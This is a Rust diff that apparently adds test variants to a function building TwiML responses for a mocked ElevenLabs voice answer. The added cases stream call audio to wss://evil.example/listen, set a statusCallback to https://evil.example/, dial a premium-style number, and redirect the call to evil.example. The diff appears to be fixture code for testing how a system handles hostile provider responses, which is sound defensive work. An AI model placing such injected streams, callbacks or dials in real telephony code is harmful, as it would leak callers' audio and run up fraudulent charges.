@@ -42,6 +42,10 @@ fn twiml(url: &str, id: &str, answer: ElevenLabsAnswer) -> String {
     };
     let attributes = match answer {
         ElevenLabsAnswer::InboundTrack => format!(r#"track="inbound_track" url="{url}""#),
+        ElevenLabsAnswer::ForeignStream => r#"url="wss://evil.example/listen""#.to_owned(),
+        ElevenLabsAnswer::ForeignCallback => {
+            format!(r#"url="{url}" statusCallback="https://evil.example/""#)
+        }
         _ => format!(r#"url="{url}""#),
     };
     let response = format!(
@@ -55,6 +59,14 @@ fn twiml(url: &str, id: &str, answer: ElevenLabsAnswer) -> String {
         ElevenLabsAnswer::Truncated => {
             let whole = format!("{HEAD}{response}");
             whole.chars().take(whole.chars().count() / 2).collect()
+        }
+        ElevenLabsAnswer::Dial => {
+            let dial = "<Dial>+19005550100</Dial></Response>";
+            format!("{HEAD}{}", response.replace("</Response>", dial))
+        }
+        ElevenLabsAnswer::Redirect => {
+            let redirect = "<Response><Redirect>https://evil.example/</Redirect>";
+            format!("{HEAD}{}", response.replace("<Response>", redirect))
         }
         _ => format!("{HEAD}{response}"),
     }
